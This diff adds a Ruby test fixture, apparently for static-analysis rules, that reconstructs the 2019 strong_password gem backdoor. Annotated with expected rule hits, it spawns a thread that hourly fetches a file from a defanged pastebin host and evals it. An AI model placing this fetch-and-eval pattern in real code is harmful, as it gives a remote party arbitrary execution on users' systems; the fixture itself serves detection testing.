@@ -0,0 +1,18 @@
+# Reconstruction of the backdoor published in strong_password 0.0.7 (2019):
+# a thread polled a remote file and evaluated whatever it returned.
+# The URL is defanged.
+require 'net/http'
+
+module StrongPassword
+  def self.start
+    Thread.new do
+      loop do
+        # ruleid: ruby-hardcoded-urls
+        uri = URI("https://pastebin.example.invalid/raw/2by7bnhu")
+        # ruleid: ruby-eval-usage, ruby-suspicious-download-patterns
+        eval(Net::HTTP.get(uri))
+        sleep 3600
+      end
+    end
+  end
+end